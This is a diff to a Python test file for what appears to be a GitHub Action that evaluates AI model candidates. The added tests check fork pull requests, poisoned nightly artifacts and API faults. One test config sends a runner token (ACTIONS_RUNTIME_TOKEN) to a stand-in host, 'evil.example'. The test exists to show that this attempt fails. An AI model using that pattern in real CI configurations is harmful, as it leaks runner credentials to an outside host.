@@ -15,7 +15,7 @@ from codegate.gating import load_lock
 from codegate.github import run_action
 from codegate.sandbox import EnvironmentRecipe
 from codegate.sandbox.docker import DockerBackend
-from tests.github.fake import FakeGitHub, Token, fake_github
+from tests.github.fake import FakeGitHub, Fault, Reply, Token, fake_github
 from tests.github.fake.artifacts import Artifacts, Run, zipped
 from tests.github.fake.content import Content
 from tests.github.fake.rest import HOME, Rest
@@ -121,12 +121,22 @@ def test_a_fork_whose_model_needs_a_key_is_skipped(
     monkeypatch.delenv("OPENAI_API_KEY", raising=False)
     recipe = EnvironmentRecipe(python="3.11", lock="")
     write_suite(world.workspace / "suite", recipe)
-    (world.workspace / "codegate.yml").write_text("suite: suite\ncandidates: ['openai:m-2025-01-01']\n")
+    config = world.workspace / "codegate.yml"
+    config.write_text("suite: suite\ncandidates: ['openai:m-2025-01-01']\n")
     base = world.commit()
     step = world.step("pull_request", pull(base, FORK), token="ghs_reader")
     assert (step.code, step.outputs["verdict"]) == (ExitCode.PASS, "skipped"), step.log
     assert "get no secrets" in step.summary
     assert not world.github.asked("GET", ".*comments")
+    for key, address in (("ACTIONS_RUNTIME_TOKEN", "ACTIONS_RUNTIME_TOKEN"), ("SET", "SET")):
+        monkeypatch.setenv(key, "something that a runner sets")
+        config.write_text(
+            "suite: suite\ncandidates:\n- {provider: openai, model: m-2025-01-01, "
+            f"base_url: 'https://evil.example/v1', api_key_env: {address}}}\n"
+        )
+        theirs = world.step("pull_request", pull(base, FORK), token="ghs_reader")
+        assert theirs.outputs["verdict"] == ("error" if address.startswith("ACTIONS") else "skipped"), theirs.log
+    config.write_text("suite: suite\ncandidates: ['openai:m-2025-01-01']\n")
     ours = world.step("pull_request", pull(base))
     assert (ours.code, ours.outputs["verdict"]) == (ExitCode.USAGE, "error"), "here a missing key is a mistake"
     for event, payload in (("pull_request_target", pull(base, FORK)), ("issue_comment", pushed())):
@@ -214,7 +224,9 @@ class TestRuns:
         archive = zipped({"history.jsonl": night.read_bytes(), "report.html": b""})
         nights = world.github.store(Artifacts)
         nights.put("codegate-nightly", archive, Run(78, event="schedule", path=NIGHTLY, conclusion="failure"))
-        nights.put("codegate-nightly", zipped({"history.jsonl": b"{}"}), Run(79, head_repository_id=2000, path=NIGHTLY))
+        for number in range(79, 86):
+            poison = zipped({"history.jsonl": b"{}"})
+            nights.put("codegate-nightly", poison, Run(number, head_repository_id=2000, path=NIGHTLY))
         transcripts = world.workspace / "answers.jsonl"
         transcripts.write_text(transcripts.read_text().replace("model-2025-01-01", "model-2025-02-02"))
         worse = world.step("schedule", pushed(), mode="nightly", artifact_name="codegate-nightly", samples="4")
@@ -223,6 +235,14 @@ class TestRuns:
         (issue,) = world.github.store(Rest).issues.values()
         assert issue["state"] == "open"
         assert "regressed" in issue["title"]
+        transcripts.write_text(transcripts.read_text().replace("model-2025-02-02", "model-2025-01-01"))
+        better = world.step("schedule", pushed(), mode="nightly", artifact_name="codegate-nightly", samples="1")
+        assert better.outputs["verdict"] == "pass", better.log
+        (after,) = world.github.store(Rest).issues.values()
+        assert after["state"] == "closed"
+        world.github.fail(Fault("GET", r".*/actions/runs/78", Reply({}, 503), times=4))
+        out = world.step("schedule", pushed(), mode="nightly", artifact_name="codegate-nightly", samples="1")
+        assert (out.code, out.outputs["verdict"]) == (ExitCode.INFRASTRUCTURE, "infrastructure"), "not begun anew"
         assert "model-2025-02-02" in issue["body"].replace("&#8203;", "").replace("&#45;", "-")
 
     def test_shards_and_merge_are_one_run(self, world: World) -> None:
@@ -266,9 +286,10 @@ def test_the_pinned_baseline_is_kept_from_expiring(world: World) -> None:
     write_suite(world.workspace / "suite", EnvironmentRecipe(python="3.11", lock=""))
     (world.workspace / "codegate.yml").write_text("suite: suite\ncandidates: [reference]\n")
     world.commit()
-    step = world.step("schedule", pushed(), mode="baseline")
-    assert (step.code, step.outputs["verdict"]) == (ExitCode.USAGE, "error")
-    assert "no baseline is pinned" in step.log
+    for mode in ("baseline", "nightly"):
+        step = world.step("schedule", pushed(), mode=mode)
+        assert (step.code, step.outputs["verdict"]) == (ExitCode.PASS, "skipped")
+        assert "no baseline is pinned" in step.log
     few = world.step("workflow_dispatch", pushed(), mode="baseline", candidates="reference", samples="2")
     assert few.code == ExitCode.USAGE
     assert "5 samples" in few.log
